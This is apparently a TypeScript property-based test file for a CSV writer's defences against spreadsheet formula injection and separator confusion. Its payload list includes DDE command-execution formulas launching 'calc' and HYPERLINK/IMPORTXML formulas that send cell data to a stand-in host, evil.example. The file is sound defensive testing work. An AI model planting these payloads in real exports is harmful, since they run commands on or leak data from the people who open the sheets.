import * as fc from "fast-check";
import { describe, expect, test } from "vitest";
import { escapeCell, writeCsv } from "#domain/exports/csv.ts";
import { aText } from "#test/arbitraries.ts";
import { readCsv, readSheet, unescapeCell } from "#test/readCsv.ts";

const startsDangerously = /^[=+\-@\t\r\n\0＝＋－＠]/;

test("200,000 cells of any text come back as they were, and none starts dangerously", () => {
  fc.assert(
    fc.property(fc.array(fc.tuple(aText, aText), { minLength: 50, maxLength: 50 }), (rows) => {
      const cells = rows.flat();
      for (const cell of cells) {
        const written = escapeCell(cell);
        if (startsDangerously.test(written)) return false;
        if (unescapeCell(written) !== cell) return false;
      }
      expect(readCsv(writeCsv(rows))).toEqual(rows);
      return true;
    }),
    { numRuns: 2_000 },
  );
}, 60_000);

/** Text with what splits and what runs in it, again and again. */
const aHostileText = fc
  .array(
    fc.oneof(
      fc.constantFrom(
        ";",
        "\t",
        "\n",
        "\r",
        "\r\n",
        "\uFEFF",
        ",",
        '"',
        "'",
        "=",
        "+",
        "-",
        "@",
        "|",
      ),
      fc.constantFrom("⁏", "␉", "⏎", "␍", "␢", ";=1+1", "\t@SUM(1)", '";"=1', "'';", "a"),
      aText,
    ),
    { maxLength: 6 },
  )
  .map((parts) => parts.join(""));

describe("a reader that takes something else for the separator, or the mark for text", () => {
  const readers = [",", ";", "\t"].flatMap((separator) =>
    [true, false].map((knowsMark) => ({ separator, knowsMark })),
  );
  const readBy = ({ separator, knowsMark }: (typeof readers)[number], csv: string) =>
    readSheet(knowsMark ? csv.replace(/^\uFEFF/, "") : csv, separator);
  const aSheet = fc.array(fc.tuple(aHostileText, aHostileText, aHostileText), {
    minLength: 1,
    maxLength: 4,
  });

  test.each(readers)("splits no cell open and runs none: %j", (reader) => {
    fc.assert(
      fc.property(aSheet, (rows) => {
        const read = readBy(reader, writeCsv(rows));
        expect(read).toHaveLength(rows.length);
        // A line is one field where nothing in it separates, and as many as it has cells otherwise.
        for (const row of read) expect(row).toHaveLength(reader.separator === "," ? 3 : 1);
        for (const cell of read.flat()) expect(cell).not.toMatch(startsDangerously);
      }),
      { numRuns: 3_000 },
    );
  });

  test("and whoever reads it as it was written gets every cell back", () => {
    fc.assert(
      fc.property(aSheet, (rows) => {
        expect(readCsv(writeCsv(rows))).toEqual(rows);
      }),
      { numRuns: 5_000 },
    );
  });

  test("the law can fail: quotes alone hold a cell together for commas only", () => {
    const quoted = (text: string) => `"x","${text.replaceAll('"', '""')}"\r\n`;
    expect(readSheet(quoted("a;=1+1"), ",")).toEqual([["x", "a;=1+1"]]);
    expect(readSheet(quoted("a;=1+1"), ";")).toEqual([['x,"a', '=1+1"']]);
    expect(readSheet(quoted("a\n=1+1"), ";")[1]?.[0]).toMatch(startsDangerously);
    expect(readSheet(`\uFEFF"a,=1+1"\r\n`, ",")[0]?.[1]).toMatch(startsDangerously);
  });
});

test("no two texts are written alike", () => {
  fc.assert(
    fc.property(
      fc.oneof(aText, aHostileText),
      fc.oneof(aText, aHostileText),
      (a, b) => a === b || escapeCell(a) !== escapeCell(b),
    ),
    { numRuns: 20_000 },
  );
});

test("the law can fail: escaping without counting the marks already there loses one", () => {
  const careless = (text: string) => (/^[=+\-@]/.test(text) ? `'${text}` : text);
  const isBijection = fc.property(aText, (text) => unescapeCell(careless(text)) === text);
  expect(fc.check(isBijection, { numRuns: 20_000 }).failed).toBe(true);
});

const payloads = [
  "=1+1",
  "+1+1",
  "-1+1",
  "@SUM(1+1)",
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example?x="&A1,"Click")',
  '=IMPORTXML(CONCAT("http://evil.example",A1),"//a")',
  '=DDE("cmd";"/C calc";"x")',
  "@SUM(1+9)*cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!D2",
  "+thespanishinquisition(cmd|' /C calc'!A",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  "\0=1+1",
  "＝1+1",
  "＋1",
  "－1",
  "＠SUM(1)",
  "'=1+1",
  "''@x",
  '",=1+1,"',
  '"\r\n=1+1',
];

test.each(payloads)(
  "the payload %j is harmless in a sheet and whole on the way back",
  (payload) => {
    const rows = [
      ["a", "b"],
      [payload, "x"],
      ["x", payload],
    ];
    const csv = writeCsv(rows);
    for (const field of csv.slice(2).split('","')) expect(field).not.toMatch(startsDangerously);
    expect(readCsv(csv)).toEqual(rows);
  },
);

test("numbers are left alone, also negative ones, and what was not given stays empty", () => {
  expect(writeCsv([[-1.5, 0, 4, null, ""]])).toBe('\uFEFF"-1.5","0","4","",""\r\n');
});

test("every field is quoted, lines end as sheets expect, and Excel gets its mark when asked", () => {
  expect(
    writeCsv([
      ["a", 'say "hi"'],
      ["b", "two\nlines"],
    ]),
  ).toBe('\uFEFF"a","say ""hi"""\r\n"b","two⏎lines"\r\n');
  expect(readCsv(writeCsv([["a"]]))).toEqual([["a"]]);
});
